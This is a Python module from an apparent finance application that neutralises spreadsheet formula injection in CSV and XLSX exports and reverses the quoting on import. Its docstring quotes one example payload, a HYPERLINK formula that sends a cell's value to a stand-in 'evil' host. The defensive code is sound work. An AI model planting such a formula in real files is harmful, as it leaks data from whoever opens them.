"""Cells for every CSV and XLSX export: text that a spreadsheet would run as a formula is neutralised.

A spreadsheet treats a cell starting with ``= + - @`` (and a tab or carriage return, which some strip
before looking) as a formula: an instrument named ``=HYPERLINK("http://evil/?"&A1, "click")`` would run on
the operator's machine when they open the export (CSV injection). Every export goes through these helpers:

- CSV: such text gets a leading ``'``, the convention spreadsheets show as "text"; the import removes it
  again (``unquote``), so an export imports back unchanged.
- XLSX: every text cell is stored as a string (never a formula) and such cells also carry Excel's
  quote-prefix flag, so editing the cell keeps it text; the value itself is unchanged.
"""

from __future__ import annotations

import datetime as dt
from typing import Any

from dayi.core.money import fmt

FORMULA_PREFIXES = ("=", "+", "-", "@", "\t", "\r")


def is_formula_like(text: str) -> bool:
    return text.startswith(FORMULA_PREFIXES)


def neutral(text: str) -> str:
    """``text`` as a CSV cell a spreadsheet shows and never runs."""
    return "'" + text if is_formula_like(text) else text


def unquote(value: Any) -> Any:
    """Undo ``neutral`` on an imported cell."""
    if isinstance(value, str) and value[:1] == "'" and is_formula_like(value[1:]):
        return value[1:]
    return value


def csv_text(value: Any) -> str:
    """Any exported value as CSV text: dates in ISO, money with two places, text neutralised."""
    if value is None:
        return ""
    if isinstance(value, dt.date):
        return value.isoformat()
    if isinstance(value, int):
        return str(value)
    if not isinstance(value, str):
        return fmt(value)  # Decimal yuan → "1234.50"
    return neutral(value)


def xlsx_cell(sheet: Any, value: Any) -> Any:
    """A write-only workbook cell: text is a string cell (never a formula), other values go as they are."""
    if not isinstance(value, str):
        return value
    from openpyxl.cell import WriteOnlyCell
    from openpyxl.cell.cell import ILLEGAL_CHARACTERS_RE

    cell = WriteOnlyCell(sheet, value=ILLEGAL_CHARACTERS_RE.sub("", value))
    cell.data_type = "s"
    if is_formula_like(value):
        cell.quotePrefix = True
    return cell
